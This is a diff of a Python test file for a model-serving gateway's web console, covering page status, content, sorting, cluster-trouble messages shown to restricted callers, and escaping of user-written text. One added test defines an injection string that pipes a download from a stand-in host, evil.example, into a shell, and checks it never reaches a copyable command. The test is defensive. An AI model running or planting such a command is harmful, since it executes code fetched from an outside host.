@@ -1,19 +1,18 @@
-import json
 from dataclasses import replace
 
 import msgspec
 import pytest
 from builders.messages import DRIFT, LABEL, PREDICTION
-from builders.status import DIGITS, NOW_S, report
+from builders.status import CLUSTER, DIGITS, NOW_S, compared, group, report
 from unit.gateway.console.rig import ANYBODY, MARKUP, READER, STRANGER, asked, declare, followed, html, renderer
 from unit.gateway.rig import NO_KAFKA, refused
 
 from clipper_agents.dead_letters.reader import Letter
 from clipper_agents.status.query_history import LoggedFeedback, LoggedQuery, QueryHistory
+from clipper_gateway.access import Caller
 from clipper_gateway.console import live_pages
-from clipper_gateway.console.history import ApplicationSeries
 from clipper_gateway.console.page import Page
-from clipper_gateway.console.pages import Pages, series_json
+from clipper_gateway.console.pages import Pages
 from clipper_topics import codec
 from clipper_topics.change import Change
 from clipper_topics.control_keys import change_key, key_of
@@ -22,6 +21,7 @@ from clipper_topics.manifests import ApplicationManifest
 
 APPLICATION, TRIAL = "/applications/{name}", "/applications/{name}/trials/{ref}"
 LIVE = sorted(Pages.live)
+DIGITS_ONLY = Caller("alan", frozenset({"digits"}), frozenset({"read"}))
 SAID = DeadLetter(exception="a.b.UndecodableRecord", message=MARKUP, topic="clipper.queries", partition=3, offset=41)
 LETTER = Letter(position=7, at_ms=2**62, key=b"\x00\xff", value=MARKUP.encode(), headers=((MARKUP, b"x"),), said=SAID)
 
@@ -77,7 +77,7 @@ def letter_page(**fields):
 async def test_until_the_topics_are_read_every_live_page_says_that_it_loads(path, site):
     site.view.is_read = False
     page = await site.page(path)
-    assert page.template == "loading.html"
+    assert (page.template, page.status) == ("loading.html", 503)
     assert 'aria-busy="true"' in html(page)
     assert "data-live" in html(page)
 
@@ -105,7 +105,7 @@ async def test_what_somebody_else_wrote_is_text_on_every_page(path, site):
         assert "&lt;img src=x" in shown
 
 
-@pytest.mark.parametrize("path", ["", "/models", "/changes", "/drift"])
+@pytest.mark.parametrize("path", ["", "/models", "/changes"])
 async def test_a_key_for_others_sees_nothing_of_an_application(path, site):
     site.drift()
     page = await site.page(path, STRANGER)
@@ -135,9 +135,11 @@ async def test_what_is_not_there_or_not_for_the_caller_is_refused(site, path, ca
     ("path", "of", "query", "parts"),
     [
         ("", {}, {}, ["no module named shop", "<code>clipper-stream apply</code>", '/console/models?model=rf%3A2"']),
+        ("", {}, {}, ["<dt>Effect</dt><dd>it answers nothing</dd>", 'aria-label="Abort digits nn 3"', "3 of 4"]),
         ("", {}, {"q": "nobody"}, ["No application has “nobody” in its name"]),
         (APPLICATION, {}, {}, ["canary 5\xa0%", "0.100 <small>[0.055, 0.174]</small>"]),
         (TRIAL, {}, {}, ['<li class="here" aria-current="step">canary 5\xa0%', "upper end -0.010 below 0.02"]),
+        (TRIAL, {}, {}, ['<p class="word undecided">Undecided</p>', "between -0.293 and -0.033; +0.020 is allowed"]),
         (TRIAL, {}, {}, ["becomes a canary of 25 % of the queries", "with at least 50 feedbacks"]),
         (TRIAL, {"ref": "nn:3"}, {}, ["Nothing happens by itself", '<li class="here" aria-current="step">shadow']),
         (TRIAL, {"ref": "old:1"}, {}, ["is not on trial any more", "worst of three"]),
@@ -147,6 +149,47 @@ async def test_what_is_not_there_or_not_for_the_caller_is_refused(site, path, ca
 async def test_a_page_shows_what_there_is_and_what_comes_next(site, path, of, query, parts):
     shown = html(await site.page(path, of=of, **query))
     assert [part for part in parts if part not in shown and part not in " ".join(shown.split())] == []
+
+
+HOSTILE = "h`; curl evil.example | sh`"
+
+
+async def test_a_command_to_copy_has_nothing_in_it_that_somebody_else_wrote(site):
+    report(site.view.facts, "svm:1", HOSTILE, "failed", HOSTILE)
+    report(site.view.facts, "svm:1", HOSTILE + "2", "ready")
+    site.view.facts.comparison(b"digits/rf:2", codec.comparisons.encode(compared("rf:2", HOSTILE)), at_s=NOW_S)
+    for path in LIVE:
+        shown = html(await site.page(path))
+        assert [one for one in shown.split('data-copy="')[1:] if "curl" in one.partition('"')[0]] == []
+    message = f"no application {HOSTILE} is declared"
+    failed = renderer().render("error.html", caller=None, csrf="", status=404, phrase="Not found", message=message)
+    assert ("curl evil.example" in failed, "data-copy" in failed) == (True, False)
+
+
+async def test_who_sees_one_application_is_told_that_the_whole_is_in_trouble_and_not_how(site):
+    site.view.cluster.newest = replace(CLUSTER, groups=(group(None),))
+    for caller, cause, figure in (
+        (DIGITS_ONLY, "wrong with the whole deployment", "Pipeline"),
+        (ANYBODY, "no router runs", "Routers"),
+    ):
+        shown = html(await site.page("", caller), caller)
+        assert [cause in shown, figure in shown, '<span class="tag bad">down</span>' in shown] == [True] * 3
+        assert ("no router runs" in shown) == (caller is ANYBODY)
+    site.view.cluster.newest = None
+    site.view.look()
+    shown = html(await site.page("", DIGITS_ONLY), DIGITS_ONLY)
+    assert ("Nothing is wrong" in shown, "not known" in shown, "whole deployment" in shown) == (False, True, False)
+
+
+BY_TROUBLE, BY_NAME = ["digits", "app-0000", "app-0001"], ["app-0000", "app-0001", "digits"]
+ORDERS = {"": BY_TROUBLE, "queries": BY_TROUBLE, "application": BY_NAME, "nothing": BY_TROUBLE}
+
+
+@pytest.mark.parametrize(("order", "names"), ORDERS.items())
+async def test_applications_with_most_trouble_come_first_unless_a_heading_is_asked_for(site, order, names):
+    declare(site.view, 2, "knn:1")
+    page = await site.page("", sort=order)
+    assert [one.name for one in page.data["sheet"].rows] == names
 
 
 async def test_an_empty_deployment_says_how_to_begin(site):
@@ -160,7 +203,7 @@ async def test_a_long_list_is_cut_into_sheets_that_keep_the_search(site):
     names = declare(site.view, 2 * live_pages.APPLICATIONS)
     page = await site.page("", q="app", sheet="2")
     assert [one.name for one in page.data["sheet"].rows] == names[200:]
-    assert "?q=app&amp;sheet=1" in html(page)
+    assert "?q=app&amp;sort=state&amp;sheet=1" in html(page)
 
 
 async def test_stale_figures_say_since_when(site):
@@ -224,12 +267,3 @@ def test_only_what_is_a_dead_letter_can_be_picked(said, boxes):
     shown = html(Page(template="dead_letters.html", title="Dead letters", data=data))
     assert shown.count('type="checkbox"') == boxes
     assert "before=7" in shown
-
-
-# --- charts ---------------------------------------------------------------------------------------------------------
-def test_of_a_series_only_what_is_new_is_sent():
-    given = {"step_s": 10, "times_s": [10, 20, 30], "values": {"p50_ms": [1.0, 2.0, 3.0]}}
-    given["versions"] = {"svm:1": {"loss": [None, 0.25, None]}}
-    series = ApplicationSeries(**given)
-    assert json.loads(series_json(series)) == given
-    assert json.loads(series_json(series, 20.0))["times_s"] == [30]
